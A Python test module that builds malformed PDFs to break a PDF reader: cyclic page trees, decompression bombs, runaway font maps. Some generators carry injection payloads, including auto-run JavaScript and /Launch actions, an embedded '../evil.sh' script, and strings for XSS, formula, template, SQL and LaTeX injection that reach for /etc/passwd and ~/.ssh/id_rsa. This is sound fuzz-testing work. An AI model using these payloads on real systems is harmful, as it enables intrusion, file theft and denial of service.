"""PDF files made to break what reads them, each by one function named after its fault."""

from __future__ import annotations

import re
import zlib
from collections.abc import Callable, Iterable
from dataclasses import replace

from typeset import Layout, Row, golden_rows, typeset

ROOT, PAGES, PAGE, CONTENT, FONT = range(1, 6)  # the objects of every small document
WIDE = Layout(
    page=(1600, 700), legend="none", footer="", widths=(20, 180, 180, 80, 80, 80, 180, 180)
)  # holds long words
IMAGE = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB /BitsPerComponent %d"
Objects = dict[int, bytes]
Maker = Callable[[], bytes]

# A tiny writer


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def flate(data: bytes, layers: int = 1, inner: int = 0) -> bytes:
    """A compressed stream of data in which some inner layers are compressed already."""
    for _ in range(layers):
        data = zlib.compress(data)
    return stream(data, b"/Filter [%s]" % (b"/FlateDecode " * (layers + inner)))


def small(content: bytes = b"BT /F 12 Tf 72 720 Td (Nothing but a line) Tj ET", page: bytes = b"") -> Objects:
    """The objects of a document of one page; `page` adds entries to the page, or sets them otherwise."""
    entries = {
        b"MediaBox": b"[0 0 612 792]",
        b"Contents": b"%d 0 R" % CONTENT,
        b"Resources": b"<< /Font << /F %d 0 R >> >>" % FONT,
    }
    rest = b" ".join(b"/%s %s" % entry for entry in entries.items() if b"/" + entry[0] not in page)
    return {
        ROOT: b"<< /Type /Catalog /Pages %d 0 R >>" % PAGES,
        PAGES: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % PAGE,
        PAGE: b"<< /Type /Page /Parent %d 0 R %s %s >>" % (PAGES, rest, page),
        CONTENT: content if content.startswith(b"<<") else stream(content),
        FONT: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }


def written(objects: Objects, trailer: bytes = b"", start: int | None = None) -> bytes:
    """A PDF of the objects; `start` is where it says its cross-reference table begins, if not where it does."""
    return _added(b"%PDF-1.7\n", objects, trailer, start)


def updated(pdf: bytes, objects: Objects, trailer: bytes = b"") -> bytes:
    """A PDF with objects added, or set anew, in the way of an incremental update."""
    before = pdf.rindex(b"startxref") + len(b"startxref")
    return _added(pdf, objects, b"/Prev %d %s" % (int(pdf[before:].split()[0]), trailer))


def _added(pdf: bytes, objects: Objects, trailer: bytes, start: int | None = None) -> bytes:
    table = []
    for number, body in objects.items():
        table.append(b"%d 1\n%010d 00000 n \n" % (number, len(pdf)))
        pdf += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    root = b"" if b"/Root" in trailer else b"/Root %d 0 R" % ROOT
    size = max(objects, default=0) + 1
    at = len(pdf) if start is None else start
    pdf += b"xref\n0 1\n0000000000 65535 f \n%s" % b"".join(table)
    return pdf + b"trailer\n<< /Size %d %s %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer, at)


# Good plans, and what is changed in them


def plan(layout: Layout = WIDE, rows: Iterable[Row] = golden_rows()[:3]) -> bytes:
    return typeset(layout, rows)[0]


def saying(texts: Iterable[str], column: str = "description") -> bytes:
    """A good plan whose activities have these texts in a column."""
    rows = zip(golden_rows(), texts, strict=False)
    return plan(rows=[row | {"project_number": str(i), column: text} for i, (row, text) in enumerate(rows, start=1)])


def amended(name: bytes, entries: bytes, objects: Objects | None = None, pdf: bytes | None = None) -> bytes:
    """A good plan with entries added to its objects of a type (/Catalog, /Page, /Font), and with objects more."""
    pdf = plan() if pdf is None else pdf
    found = re.findall(rb"(\d+) 0 obj\n?(<<(?:(?!endobj).)*?/Type /%s\b.*?>>)\s*endobj" % name, pdf, re.DOTALL)
    changed = {int(number): b"<< %s %s" % (entries, _without(body, entries)[2:]) for number, body in found}
    root = re.search(rb"/Root \d+ 0 R", pdf)[0]  # type: ignore[index]
    return updated(pdf, changed | (objects or {}), root)


def _without(body: bytes, entries: bytes) -> bytes:
    """A dictionary without those of its entries that are given anew."""
    for key in re.findall(rb"/(\w+)", entries):
        body = re.sub(rb"/%s (\[[^\]]*\]|\d+ 0 R|/?\w+)" % key, b"", body)
    return body


def spelling(meanings: dict[str, str], column: str = "description") -> bytes:
    """A good plan whose fonts say that some of its characters mean others, given as UTF-16 in hexadecimal."""
    pairs = b"".join(b"<%02X> <%s>\n" % (ord(letter), code.encode()) for letter, code in meanings.items())
    cmap = (
        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /A def /CMapType 2 def\n"
        b"1 begincodespacerange <00> <FF> endcodespacerange\n%d beginbfchar\n%sendbfchar\n"
        b"endcmap end end" % (len(meanings), pairs)
    )
    letters = "".join(meanings)
    return amended(b"Font", b"/ToUnicode 900 0 R", {900: flate(cmap)}, saying([f"Said {letters} so"] * 3, column))


# The structure of the file


def page_tree_cycle() -> bytes:
    return written(small() | {PAGES: b"<< /Type /Pages /Kids [2 0 R 2 0 R 3 0 R] /Count 3 >>"})


def page_tree_parents_cycle() -> bytes:
    """The page box and the fonts are looked for in parents that are each other's."""
    return written({
        **small(),
        PAGES: b"<< /Type /Pages /Kids [6 0 R] /Count 1 /Parent 6 0 R >>",
        6: b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 2 0 R >>",
        PAGE: b"<< /Type /Page /Parent 6 0 R /Contents 4 0 R >>",
    })  # fmt: skip


def page_tree_deep() -> bytes:
    nodes = {i: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (i + 1, i - 1) for i in range(10, 5010)}
    return written(small() | nodes | {PAGES: nodes[10], 5010: b"<< /Type /Page /Parent 5009 0 R >>"})


def count_enormous() -> bytes:
    return written(small() | {PAGES: b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>"})


def count_million() -> bytes:
    return written(small() | {PAGES: b"<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>"})


def count_beyond_kids() -> bytes:
    return written(small() | {PAGES: b"<< /Type /Pages /Kids [3 0 R] /Count 1500 >>"})


def count_negative() -> bytes:
    return written(small() | {PAGES: b"<< /Type /Pages /Kids [3 0 R] /Count -3 >>"})


def one_page_many_times() -> bytes:
    """A page of four thousand words, a thousand times in the page tree."""
    line = b"(" + b"a " * 200 + b") Tj 0 -7 Td "
    kids = b"3 0 R " * 1000
    return written(
        small(flate(b"BT /F 6 Tf 0 780 Td " + line * 20 + b"ET"))
        | {PAGES: b"<< /Type /Pages /Kids [%s] /Count 1000 >>" % kids}
    )


def arrays_nested() -> bytes:
    return written(small(page=b"/Annots " + b"[" * 500_000 + b"]" * 500_000))


def dictionaries_nested() -> bytes:
    return written(small(page=b"/PieceInfo " + b"<</A " * 200_000 + b"0" + b">>" * 200_000))


def references_cycle() -> bytes:
    """Objects that are nothing but references to each other, as the content and its length."""
    return written(small() | {CONTENT: b"6 0 R", 6: b"7 0 R", 7: b"4 0 R", FONT: b"5 0 R"})


def length_of_itself() -> bytes:
    return written(small() | {CONTENT: b"<< /Length 4 0 R >>\nstream\nBT (x) Tj ET\nendstream"})


def no_objects() -> bytes:
    return written({})


def xref_to_itself() -> bytes:
    pdf = written(small(), b"/Prev 9")
    at = pdf.rindex(b"xref\n0 1")
    return pdf.replace(b"/Prev 9", b"/Prev %d" % at)


def object_stream_in_itself() -> bytes:
    """All that matters stands in an object stream that says to stand in itself, and to go on with itself."""
    inner = b"6 0 1 2 2 45 " + b"6 0 << /Type /Catalog /Pages 2 0 R >> << /Type /Pages /Kids [6 0 R] /Count 1 >>"
    holder = stream(inner, b"/Type /ObjStm /N 3 /First 13 /Extends 6 0 R")
    head = b"%PDF-1.7\n6 0 obj\n" + holder + b"\nendobj\n"
    rows = [b"\0\0\0\xff", b"\2\0\6\1", b"\2\0\6\2", b"\0\0\0\0", b"\0\0\0\0", b"\0\0\0\0", b"\2\0\6\0"]
    rows.append(b"\1" + len(head).to_bytes(2, "big") + b"\0")
    table = stream(b"".join(rows), b"/Type /XRef /Size 8 /W [1 2 1] /Root 1 0 R")
    return head + b"7 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, len(head))


def cut_in_half() -> bytes:
    return plan()[: len(plan()) // 2]


def cut_in_half_with_an_end() -> bytes:
    return cut_in_half() + b"\n%%EOF\n"


def streams_truncated() -> bytes:
    """A good plan all of whose content is cut off behind its first bytes."""
    return re.sub(rb"(stream\r?\n.{40}).*?endstream", rb"\1endstream", plan(), flags=re.DOTALL)


def encrypted_by_an_unknown_handler() -> bytes:
    return written(small() | {6: b"<< /Filter /Nobody.Knows /V 9 /R 9 >>"}, b"/Encrypt 6 0 R /ID [<00> <00>]")


def encrypted_by_nonsense() -> bytes:
    keys = b"/O (short) /U (short) /P -1 /Length 99999999"
    return written(small() | {6: b"<< /Filter /Standard /V 5 /R 6 %s >>" % keys}, b"/Encrypt 6 0 R /ID [<00> <00>]")


# What its pages hold


def form(content: bytes, forms: bytes = b"") -> bytes:
    resources = b"/Resources << /XObject << %s >> >>" % forms
    return stream(content, b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] %s" % resources)


def drawing(name: bytes) -> Objects:
    """A document whose page draws a form."""
    return small(b"%s Do" % name, b"/Resources << /XObject << %s 6 0 R >> >>" % name)


def forms_cycle() -> bytes:
    inner = {6: form(b"0 0 m 9 9 l S /B Do", b"/B 7 0 R"), 7: form(b"/A Do /A Do", b"/A 6 0 R")}
    return written(drawing(b"/A") | inner)


def forms_nested() -> bytes:
    inner = {i: form(b"/A Do", b"/A %d 0 R" % (i + 1)) for i in range(6, 3000)}
    return written(drawing(b"/A") | inner | {3000: form(b"0 0 m 99 0 l S")})


def forms_multiplied() -> bytes:
    """Each form draws the next one ten times: a rule drawn 10 to the 12th times."""
    inner = {i: form(b"/A Do " * 10, b"/A %d 0 R" % (i + 1)) for i in range(6, 18)}
    return written(drawing(b"/A") | inner | {18: form(b"0 0 m 99 0 l S")})


def flate_bomb() -> bytes:
    """A kilobyte that is four gigabytes of blanks once three layers are undone."""
    packed = zlib.compressobj(9, wbits=-15)
    block = packed.compress(b" " * 2**24) + packed.flush(zlib.Z_FULL_FLUSH)
    return written(small(flate(b"\x78\x9c" + block * 256, layers=2, inner=1)))


def flate_layers() -> bytes:
    return written(small(flate(b"0 0 m 99 0 l S", layers=500)))


def operands_million() -> bytes:
    return written(small(flate(b"[" * 3_000_000 + b"1 " * 3_000_000)))


def states_million() -> bytes:
    return written(small(flate(b"q " * 1_000_000)))


def rules_million() -> bytes:
    row = b"".join(b"%d 0 m %d 0 l S " % (x, x + 9) for x in range(0, 10_000, 10))
    return written(small(flate((row + b"1 0 0 1 0 1 cm ") * 1000)))


def grid_of_many_cells() -> bytes:
    """Twelve thousand rules, each of which crosses half of them."""
    across = b"".join(b"0 %d m 30000 %d l S " % (y, y) for y in range(0, 30000, 5))
    down = b"".join(b"%d 0 m %d 30000 l S " % (x, x) for x in range(0, 30000, 5))
    return written(small(flate(across + down), b"/MediaBox [0 0 30000 30000]"))


def grid_just_sparse_enough() -> bytes:
    """As many rules meet as may on one page, on each of many pages."""
    rules = b"".join(b"0 %d m 690 %d l S %d 0 m %d 690 l S " % (at, at, at, at) for at in range(0, 700, 10))
    kids = b"3 0 R " * 1000
    return written(small(flate(rules)) | {PAGES: b"<< /Type /Pages /Kids [%s] /Count 1000 >>" % kids})


def tables_many() -> bytes:
    """A page of many small tables, each of two cells."""
    places = [(x, y) for x in range(0, 2000, 40) for y in range(0, 2000, 20)]
    boxes = b"".join(b"%d %d 10 10 re %d %d 10 10 re S " % (x, y, x + 10, y) for x, y in places)
    return written(small(flate(boxes + b"BT /F 5 Tf 2 2 Td (Status) Tj ET"), b"/MediaBox [0 0 2000 2000]"))


def characters_million() -> bytes:
    line = b"(" + b"word " * 200 + b") Tj 0 -7 Td "
    return written(small(flate(b"BT /F 6 Tf " + line * 3000 + b"ET")))


def characters_on_one_spot() -> bytes:
    return written(small(flate(b"BT /F 6 Tf 72 72 Td " + b"(word) Tj 1 0 0 1 72 72 Tm " * 100_000 + b"ET")))


def page_huge() -> bytes:
    return written(small(page=b"/MediaBox [0 0 1e30 99999999999999999999999] /UserUnit 1000000000"))


def page_of_no_size() -> bytes:
    return written(small(page=b"/MediaBox [0 0 0 0]"))


def page_box_of_nonsense() -> bytes:
    return written(small(page=b"/MediaBox [(a) /b null << >>] /CropBox [nan inf -inf 1] /Rotate 45"))


def coordinates_huge() -> bytes:
    huge = b"340000000000000000000000000000000000000"
    words = b"BT /F 12 Tf %s 0 0 %s %s %s Tm (Far away) Tj ET " % (huge, huge, huge, huge)
    return written(small(b"q %s 0 0 %s 0 0 cm %s 0 m %s %s l S 0 0 %s %s re f Q %s" % (huge, huge, *[huge] * 5, words)))


def coordinates_not_numbers() -> bytes:
    """Products that overflow, subtracted from each other."""
    huge = b"1" + b"0" * 38
    matrix = b"%s -%s -%s %s %s -%s cm " % ((huge,) * 6)
    return written(small(matrix * 5 + b"0 0 99 99 re S 9 9 m 99 9 l S BT /F 12 Tf 1 0 0 1 9 9 Tm (Nowhere) Tj ET"))


def size_of_nothing() -> bytes:
    """Words of no height, and of no width."""
    return written(small(b"BT /F 0 Tf 9 9 Td (None) Tj /F 9 Tf 0 Tz (Flat) Tj 0 0 0 0 9 9 Tm (Gone) Tj ET"))


def images_only() -> bytes:
    pixels = stream(b"\0" * 300, IMAGE % (10, 10, 8))
    return written(drawing(b"/A") | {CONTENT: stream(b"500 0 0 700 50 50 cm /A Do"), 6: pixels})


def image_enormous() -> bytes:
    return written(drawing(b"/A") | {6: stream(b"\0" * 300, IMAGE % (999_999_999, 999_999_999, 16))})


# Fonts


def encoding_broken() -> bytes:
    names = b"/a /b " * 100_000
    encoding = b"<< /Type /Encoding /BaseEncoding 5 0 R /Differences [-99 %s 99999999 /c (d) 6 0 R] >>" % names
    entries = b"/BaseFont 5 0 R /FirstChar -9 /LastChar 99999999 /Widths [5 0 R] /Encoding 6 0 R"
    return written(small() | {FONT: b"<< /Type /Font /Subtype /TrueType %s >>" % entries, 6: encoding})


def font_that_draws_itself() -> bytes:
    glyph = stream(b"1000 0 d0 BT /F 12 Tf (aa) Tj ET")
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97"
        b" /Widths [1000] /CharProcs << /a 6 0 R >> /Encoding << /Differences [97 /a] >>"
        b" /Resources << /Font << /F 5 0 R >> >> >>"
    )
    return written(small(b"BT /F 12 Tf 72 72 Td (aaaa) Tj ET") | {FONT: font, 6: glyph})


def font_descends_from_itself() -> bytes:
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding 6 0 R /DescendantFonts [5 0 R] /ToUnicode 6 0 R >>"
    ranges = b"begincmap 1 begincidrange <0000> <FFFFFFFF> 0 endcidrange"
    return written(small() | {FONT: font, 6: stream(ranges, b"/Type /CMap /UseCMap 6 0 R /CMapName /A")})


def font_file_of_nonsense() -> bytes:
    data = bytes(range(256)) * 4000
    entries = b"/Flags 32 /FontBBox [0 0 0 0] /Ascent 1e30 /Descent -1e30 /FontFile2 7 0 R /FontFile3 7 0 R"
    font = b"<< /Type /Font /Subtype /TrueType /BaseFont /A /FontDescriptor 6 0 R >>"
    return written(
        small() | {FONT: font, 6: b"<< /Type /FontDescriptor %s >>" % entries, 7: stream(b"\0\1\0\0" + data)}
    )


def spelling_bomb() -> bytes:
    """A character that means ten thousand others, printed a thousand times; and many ranges of all characters."""
    ranges = b"1 beginbfrange <0000> <FFFF> <0000> endbfrange " * 30_000
    cmap = b"begincmap 1 beginbfchar <61> <%s> endbfchar %s endcmap" % (b"0062" * 10_000, ranges)
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>"
    return written(small(b"BT /F 6 Tf 9 9 Td (%s) Tj ET" % (b"a" * 1000)) | {FONT: font, 6: flate(cmap)})


# Good plans around which something lies in wait


def xref_broken() -> bytes:
    return re.sub(rb"startxref\n\d+", b"startxref\n99999999", re.sub(rb"\d{10} 00000 n", b"0000000009 00000 n", plan()))


def page_box_missing() -> bytes:
    return re.sub(rb"/MediaBox \[[^\]]*\]", b"", plan(replace(WIDE, page=(612, 792), size=4)))


def page_box_upside_down() -> bytes:
    return amended(b"Page", b"/MediaBox [1600 700 0 0]")


def page_box_below_zero() -> bytes:
    return amended(b"Page", b"/MediaBox [-900 -300 1600 700] /CropBox [-99999 0 1600 99999]")


def script_at_opening() -> bytes:
    opening = b"<< /S /JavaScript /JS (app.alert\\(1\\); this.exportDataObject\\(\\)) >>"
    closing = b"<< /S /JavaScript /JS (app.launchURL\\('http://example.invalid/'\\)) >>"
    return amended(b"Catalog", b"/OpenAction %s /AA << /WC 900 0 R >>" % opening, {900: closing})


def launch_at_opening() -> bytes:
    action = b"<< /S /Launch /F (/bin/touch) /Win << /F (touch) /P (evil) >> /Unix << /F (touch) /P (evil) >> >>"
    return amended(b"Catalog", b"/OpenAction " + action)


def files_embedded() -> bytes:
    names = b"/Names << /EmbeddedFiles << /Names [(../evil.sh) 900 0 R] >> >>"
    spec = b"<< /Type /Filespec /F (../evil.sh) /UF (../evil.sh) /EF << /F 901 0 R >> >>"
    return amended(b"Catalog", names, {900: spec, 901: stream(b"#!/bin/sh\ntouch evil", b"/Type /EmbeddedFile")})


def page_of_html() -> bytes:
    """A PDF that a browser may take for a page, for its first line is a comment."""
    return plan().replace(b"%PDF-1.4\n", b"%PDF-1.4 <html><script>alert(1)</script>\n", 1)


def html_before_the_file() -> bytes:
    return b"<!DOCTYPE html><script>alert(1)</script><!--\n" + plan() + b"-->"


def outlines_cycle() -> bytes:
    item = b"<< /Title (Again) /Parent 900 0 R /Next 900 0 R /Prev 900 0 R /First 900 0 R /Last 900 0 R /Count 99 >>"
    return amended(b"Catalog", b"/Outlines 900 0 R /Dests 900 0 R /AcroForm << /Fields [900 0 R] >>", {900: item})


# Good plans with strange text

TEXTS = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"click") @SUM(1+9)*cmd|\' /C calc\'!A0 +1-2',
    '<script>alert("1")</script> <img src=x onerror=alert(1)> </td></table> <!-- &lt; &#0; ]]>',
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} #{7*7} {0.__class__} %s %n",
    r"\input{/etc/passwd} \write18{touch evil} $\int$ 100% _a^b ~ \n \u0041",
    r"../../etc/passwd /dev/null file:///etc/passwd C:\Windows\..\evil.exe ~/.ssh/id_rsa",
    "' OR 1=1; DROP TABLE activities; -- \"; __import__('os').system('touch evil')",
    "Nan NULL None true 1e999 -0 0x10 N/A inf",
)


def strange_descriptions() -> bytes:
    return saying(TEXTS)


def strange_titles() -> bytes:
    return saying(TEXTS, "project_title")


def strange_statuses() -> bytes:
    return saying(TEXTS, "status_text")


def strange_institutions() -> bytes:
    return saying(TEXTS, "institutions_text")


def title_that_is_a_path() -> bytes:
    return plan(replace(WIDE, title="none", running="../../evil/$(touch evil) Plan 2024-2026"))


CONTROLS = {"~": "001B", "^": "0007", "|": "0000", "`": "000D", "}": "0085", "{": "202E", "#": "2028"}


def control_characters() -> bytes:
    """Among them what a terminal would obey, and what ends a line or a text."""
    return spelling(CONTROLS)


def control_institutions() -> bytes:
    return spelling(CONTROLS, "institutions_text")


def halves_of_characters() -> bytes:
    """Halves of one alone, two that make one, and what is none."""
    return spelling({"~": "D800", "^": "DC00", "|": "DFFF0041", "`": "FFFE", "{": "D83DDE00"})


# Good plans that are too much


def cell_without_end() -> bytes:
    """A cell of a hundred thousand words, over many pages."""
    return saying(["word " * 100_000, "Short", "Short"])


def pillar_of_a_long_number() -> bytes:
    return plan(rows=[row | {"pillar": "9" * 20} for row in golden_rows()[:3]])


def more_activities_than_letters() -> bytes:
    return plan(rows=[golden_rows()[1] | {"description": f"Part {i}"} for i in range(40)])
